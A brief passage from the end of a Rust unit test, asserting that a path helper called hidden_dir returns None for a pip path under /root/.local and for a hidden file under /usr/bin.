        assert_eq!(hidden_dir("/root/.local/bin/pip"), None);
        assert_eq!(hidden_dir("/usr/bin/.hidden"), None, "a hidden file, not a hidden dir");
    }
}
